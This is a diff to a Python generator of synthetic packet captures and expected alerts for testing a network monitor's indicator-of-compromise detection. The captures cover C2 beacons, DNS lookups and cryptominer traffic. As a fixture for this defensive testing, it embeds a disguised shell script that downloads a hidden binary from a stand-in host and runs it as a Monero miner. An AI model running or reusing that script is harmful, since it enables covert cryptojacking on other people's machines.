+        (IOC_RESOLVER, 53, 45000): [(SID_IOC_LOOKUP, "dns.rrname", "moneroocean.stream")],
+        "lookalikes": [(IOC_RESOLVER, 53, 45003), ("203.0.113.43", 443), ("203.0.113.44", 443),
+                       ("203.0.113.45", 443)],
+    }
+    return cap
+
+
+def beacon(label, n):
+    """n bytes of an opaque C2 protocol: a length, then noise."""
+    return struct.pack("!I", n - 4) + prng(label, n - 4)
+
+
+def cap_ioc_c2():
+    """C2 addresses, network and domain of the test feed, and their neighbours."""
+    cap = Cap("ioc_c2.pcap", LT_ETH,
+              "indicators, command and control (test feed tests/data/test-iocs.txt): a pod "
+              "connects on 8443 to the listed C2 address 198.51.100.66 and to 203.0.113.150 in "
+              "the listed C2 network 203.0.113.128/26, and the C2 address connects to a pod "
+              "(source address matched, direction to_client); the pod looks up the listed C2 "
+              "domain kube-telemetry.example (A 192.0.2.77) and connects to its address (linked "
+              "and matched). Look-alikes, no indicator alert: 198.51.100.67 (next to the listed "
+              "address), 203.0.113.192 (just past the network), lookups of "
+              "notkube-telemetry.example (then a connection to its address) and "
+              "kube-telemetry.example.net")
+    cap.iocs = True
+    pod, rows = "10.244.21.10", []
+
+    def c2_conn(t, c, label):
+        tcp_session(rows, t, c, [(True, beacon(label + "/hello", 120)),
+                                 (False, beacon(label + "/task", 48)),
+                                 (True, beacon(label + "/out", 232))])
+    c2_conn(0.0, Tcp(pod, 46001, "198.51.100.66", 8443, 0x6210000, 0x6220000), "ioc_c2/1")
+    c2_conn(0.5, Tcp(pod, 46002, "198.51.100.67", 8443, 0x6230000, 0x6240000), "ioc_c2/2")
+    c2_conn(1.0, Tcp(pod, 46003, "203.0.113.150", 8443, 0x6250000, 0x6260000), "ioc_c2/3")
+    c2_conn(1.5, Tcp(pod, 46004, "203.0.113.192", 8443, 0x6270000, 0x6280000), "ioc_c2/4")
+    c2_conn(2.0, Tcp("198.51.100.66", 41000, pod, 8080, 0x6290000, 0x62A0000), "ioc_c2/5")
+    ioc_lookup(rows, 3.0, pod, 46005, 0x6205, "kube-telemetry.example", "192.0.2.77")
+    c2_conn(3.5, Tcp(pod, 46006, "192.0.2.77", 8443, 0x62B0000, 0x62C0000), "ioc_c2/6")
+    ioc_lookup(rows, 4.0, pod, 46007, 0x6207, "notkube-telemetry.example", "192.0.2.78")
+    c2_conn(4.5, Tcp(pod, 46008, "192.0.2.78", 8443, 0x62D0000, 0x62E0000), "ioc_c2/7")
+    ioc_lookup(rows, 5.0, pod, 46009, 0x6209, "kube-telemetry.example.net", "192.0.2.79")
+    rows.sort(key=lambda r: r[0])
+    link = eth_link()
+    for t, fc, l3 in rows:
+        cap.add(t, link(l3, fc))
+    cap.ioc_expect = {
+        ("198.51.100.66", 8443): [(SID_IOC_C2, "dest_ip", "198.51.100.66")],
+        ("203.0.113.150", 8443): [(SID_IOC_C2, "dest_ip", "203.0.113.128/26")],
+        (pod, 8080): [(SID_IOC_C2, "src_ip", "198.51.100.66")],
+        (IOC_RESOLVER, 53, 46005): [(SID_IOC_C2, "dns.rrname", "kube-telemetry.example")],
+        ("192.0.2.77", 8443): [(SID_IOC_C2, "dns_linked", "kube-telemetry.example")],
+        "lookalikes": [("198.51.100.67", 8443), ("203.0.113.192", 8443),
+                       (IOC_RESOLVER, 53, 46007), ("192.0.2.78", 8443), (IOC_RESOLVER, 53, 46009)],
+    }
+    return cap
+
+
+def http_get(path, host):
+    return (b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: curl/7.88.1\r\n"
+            b"Accept: */*\r\n\r\n")
+
+
+def http_ok(ctype, body):
+    return (b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype + b"\r\nContent-Length: "
+            + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
+
+
+def cap_ioc_url():
+    """Pools named in cleartext: stratum URLs in downloads, the host a miner
+    names in mining.subscribe, the host a pool sends it to."""
+    cap = Cap("ioc_url.pcap", LT_ETH,
+              "indicators, pools named in cleartext: HTTP downloads whose bodies carry stratum "
+              "URLs - a shell script with stratum+tcp://pool.supportxmr.com:3333, an XMRig "
+              "config with stratum+ssl://user:x@xmr.pool.minergate.com:45700, and a look-alike "
+              "script with stratum+tcp://notsupportxmr.com:3333 (no indicator alert); a "
+              "cleartext Stratum v1 session (cgminer/4.10.0) on 3333 whose mining.subscribe "
+              "names its pool stratum.f2pool.com (params[2]), and one whose pool sends "
+              "client.reconnect to stratum.slushpool.com")
+    cap.iocs = True
+    pod, web, rows = "10.244.22.10", "203.0.113.50", []
+    wallet = xmr_wallet("ioc_url/wallet")
+    script = ("#!/bin/sh\n# node tuning helper\nset -e\n"
+              "curl -fsSL -o /tmp/.kworker https://dl.davy-test.example/kworker\n"
+              "chmod +x /tmp/.kworker\n"
+              "nohup /tmp/.kworker -o stratum+tcp://pool.supportxmr.com:3333 -u %s -p k8s -k "
+              ">/dev/null 2>&1 &\n" % wallet).encode()
+    config = jl({"autosave": True, "cpu": {"enabled": True, "huge-pages": True},
+                 "pools": [{"url": "stratum+ssl://user:x@xmr.pool.minergate.com:45700",
+                            "tls": True, "keepalive": True}]}, 1)
+    lookalike = ("#!/bin/sh\n# benchmark against a local test pool\n"
+                 "exec /opt/bench/miner -o stratum+tcp://notsupportxmr.com:3333 -u benchmark "
+                 "--bench=1M\n").encode()
+    for k, (path, ctype, body) in enumerate(((b"/tune.sh", b"text/x-sh", script),
+                                             (b"/config.json", b"application/json", config),
+                                             (b"/bench.sh", b"text/x-sh", lookalike))):
+        tcp_session(rows, 0.5 * k, Tcp(pod, 47001 + k, web, 80, 0x6310000 + 0x20000 * k,
+                                       0x6320000 + 0x20000 * k),
+                    [(True, http_get(path, b"dl.davy-test.example")),
+                     (False, http_ok(ctype, body))])
+    login = btc_bech32("ioc_url/v1") + ".rig01"
+    sends = v1_script(0, login, "cgminer/4.10.0", 16384, "ioc_url/v1",
+                      sub_params=["cgminer/4.10.0", None, "stratum.f2pool.com", 3333])
+    play(rows, Tcp(pod, 47010, "203.0.113.51", 3333, 0x6370000, 0x6380000), 2.0, sends)
+    sends = v1_script(1, btc_legacy("ioc_url/v1b") + ".worker1", "bfgminer/5.5.0", 65536,
+                      "ioc_url/v1b")
+    sends.append(("s", 0.2, [jl({"id": None, "method": "client.reconnect",
+                                 "params": ["stratum.slushpool.com", 3333, 0]}, 1)]))
+    play(rows, Tcp(pod, 47011, "203.0.113.52", 3333, 0x6390000, 0x63A0000), 5.0, sends)
+    rows.sort(key=lambda r: r[0])
+    link = eth_link()
+    for t, fc, l3 in rows:
+        cap.add(t, link(l3, fc))
+    cap.ioc_expect = {
+        (web, 80, 47001): [(SID_IOC_URL, "payload.stratum_url", "supportxmr.com")],
+        (web, 80, 47002): [(SID_IOC_URL, "payload.stratum_url", "minergate.com")],
+        ("203.0.113.51", 3333): [(SID_IOC_AGENT, "stratum.agent", "cgminer"),
+                                 (SID_IOC_POOL, "stratum.host", "f2pool.com")],
+        ("203.0.113.52", 3333): [(SID_IOC_AGENT, "stratum.agent", "bfgminer"),
+                                 (SID_IOC_POOL, "stratum.host", "slushpool.com")],
+        "lookalikes": [(web, 80, 47003)],
+    }
+    return cap
+
+
+IOC_CAPS = (cap_ioc_pool_tls, cap_ioc_c2, cap_ioc_url)
+
+
+def check_ioc_expect(cap, t):
+    """The indicator alerts a builder states it means to cause must be what
+    the reference model computes, flow by flow (keyed (dest_ip, dest_port[,
+    src_port])); its look-alike flows must have none."""
+    want = dict(cap.ioc_expect)
+    lookalikes = want.pop("lookalikes")
+    got = collections.defaultdict(list)
+    for a in t["ioc_alerts"]:
+        fl = a["flow"]
+        keys = [k for k in list(want) + lookalikes if k[:2] == (fl["dest_ip"], fl["dest_port"])
+                and (len(k) == 2 or k[2] == fl["src_port"])]
+        if len(keys) != 1:
+            raise SystemExit("%s: indicator alert %d on %s:%d -> %s:%d not built to be"
+                             % (cap.name, a["signature_id"], fl["src_ip"], fl["src_port"],
+                                fl["dest_ip"], fl["dest_port"]))
+        got[keys[0]].append((a["signature_id"], a["ioc"]["matched"], a["ioc"]["indicator"]))
+    for k in set(want) | set(got):
+        if sorted(got.get(k, [])) != sorted(want.get(k, [])):
+            raise SystemExit("%s: flow %s built to raise %s, the reference gives %s"
+                             % (cap.name, k, want.get(k), got.get(k)))
+    flows = {(f["dest_ip"], f["dest_port"], f["src_port"]) for f in t["flows"]}
+    for k in lookalikes:
+        assert any(f[:len(k)] == k for f in flows), (cap.name, k)
+
+
 STRATUM_CAPS = (cap_stratum_dialects, cap_stratum_segments, cap_stratum_loss, cap_stratum_vxlan,
                 cap_stratum_geneve, cap_stratum_quiet, cap_stratum_v2, cap_stratum_long)
 V2_CAPTURES = ("stratum_v2.pcap",)
@@ -4651,7 +5378,7 @@ def build_all():
         cap_nested(),
         cap_tunnel_damaged(),
         cap_vxlan_frag(),
-    ] + [mk() for mk in STRATUM_CAPS] + [cap_dns_linkage()]
+    ] + [mk() for mk in STRATUM_CAPS] + [cap_dns_linkage()] + [mk() for mk in IOC_CAPS]
     by_name = {c.name: c for c in caps}
     by_name["eth_tcp_http.pcapng"].desc = "pcapng (SHB, one IDB, EPBs) equivalent of eth_tcp_http.pcap"
     by_name["eth_tcp_http_be.pcap"].desc = "big-endian pcap (magic a1b2c3d4 written big-endian) equivalent of eth_tcp_http.pcap"
@@ -4771,6 +5498,27 @@ and CNAME chains as built (tshark reassembles the split DNS-over-TCP answer,
 which davy must not, and shows the 5-byte A record of the malformed answer as
 an address without flagging it).
 
+Indicators (rules in `rules.iocs`; captures `ioc_*`): each has `iocs`, what
+davy must report when replayed with `--iocs` for each of `iocs.feeds` (the
+shipped `iocs/` and the test feed `tests/data/test-iocs.txt`): `alerts`,
+exactly the indicator alerts (signatures 4960101-4960109), each with `flow`,
+`signature_id`, `timestamp`, `direction`, `severity`, `ioc` (`indicator`,
+`type`, `feed`, `category`, `severity`, `matched`) and `fact` (what matched);
+`lookalikes`, the flows built to resemble an indicator's (a name one letter
+longer, an address next to a listed one) that must raise none; and
+`stratum_hosts`, the flows whose `stratum` object has a `host` (the pool the
+miner names), with that host; `stats`, davy's `stats.iocs` counters
+`indicators`, `files`, `bad_lines` and `matched`. They
+come from a reference model in `gen.py` (`RefIocs`: the plain feed format and
+its lookups; `RefIocFlow`: which fact is checked when, which signature it
+makes due), written from `include/ioc.h`, `include/ioc_match.h` and
+`docs/signatures.md`, and for stratum URLs in payloads (4960106,
+`payload.stratum_url`) and the host a miner names (`stratum.host`) from the
+contract in `rules.iocs`; each builder also states the alerts it means to
+cause, and gen.py stops when the model disagrees. `tests/ioc_golden_test.py`
+checks davy against them; `golden_test.py` replays these captures with
+`--no-iocs` like every other.
+
 The truth is computed, not typed: each packet is built with a label (flow
 packet, decode error, fragment, unsupported), a reference decoder in `gen.py`
 re-reads the bytes by davy's rules and must agree with the label, a
@@ -4840,6 +5588,11 @@ def write_readme(outdir, manifest):
         nd = sum(1 for f in c["flows"] if "dns_linked_name" in f)
         if nd:
             extra.append("%d DNS-linked" % nd)
+        if c.get("iocs"):
+            sids = collections.Counter(a["signature_id"] for a in c["iocs"]["alerts"])
+            nl = len(c["iocs"]["lookalikes"])
+            extra.append("with --iocs: " + ", ".join("%d x%d" % (k, sids[k]) for k in sorted(sids))
+                         + ", %d look-alike%s" % (nl, "" if nl == 1 else "s"))
         tail = " (%d flow%s%s)" % (n, "" if n == 1 else "s", "".join(", " + e for e in extra))
         lines.append("| `%s` | %s | %s%s |\n" % (name, lt, c["description"], tail))
     with open(os.path.join(outdir, "README.md"), "w") as f:
@@ -4869,6 +5622,20 @@ def check_dns_expect(cap, t):
     assert used == set(want["flows"]), set(want["flows"]) - used
 
 
+def ioc_entry(cap, t, iocs):
+    """The manifest's "iocs" of a capture modelled with indicators."""
+    looks = []
+    for k in cap.ioc_expect["lookalikes"]:
+        fl = [f for f in t["flows"] if (f["dest_ip"], f["dest_port"], f["src_port"])[:len(k)] == k]
+        assert len(fl) == 1, (cap.name, k)
+        looks.append({key: fl[0][key] for key in ("proto", "src_ip", "src_port", "dest_ip",
+                                                   "dest_port", "start")})
+    return {"feeds": list(IOC_FEEDS), "alerts": t["ioc_alerts"], "lookalikes": looks,
+            "stratum_hosts": t["stratum_hosts"],
+            "stats": {"indicators": len(iocs.by_key), "files": iocs.files, "bad_lines": 0,
+                      "matched": {w: t["ioc_matched"][w] for w in IOC_WHERE}}}
+
+
 def main():
     if len(sys.argv) != 2:
         sys.exit("usage: gen.py OUTDIR")
@@ -4881,14 +5648,17 @@ def main():
         "rules": RULES,
         "captures": {},
     }
+    iocs = None
     for cap in build_all():
+        if cap.iocs and iocs is None:
+            iocs = RefIocs(IOC_FEEDS)
         for r in cap.recs:
             assert r.ts_us >= T0_US
         assert [r.ts_us for r in cap.recs] == sorted(r.ts_us for r in cap.recs), cap.name
         data = cap.file_bytes()
         with open(os.path.join(outdir, cap.name), "wb") as f:
             f.write(data)
-        t = truth(cap)
+        t = truth(cap, iocs if cap.iocs else None)
         recs = cap.complete if cap.complete is not None else cap.recs
         entry = {"description": cap.desc, "format": cap.fmt}
         if cap.fmt == "pcapng":
@@ -4923,6 +5693,9 @@ def main():
         entry["dns_linkage"] = t["dns_linkage"]
         if cap.dns_expect is not None:
             check_dns_expect(cap, t)
+        if cap.iocs:
+            check_ioc_expect(cap, t)
+            entry["iocs"] = ioc_entry(cap, t, iocs)
         assert t["dns_linkage"]["flows_linked"] == sum(1 for f in t["flows"]
                                                        if "dns_linked_name" in f), cap.name
         if cap.name not in V2_CAPTURES:
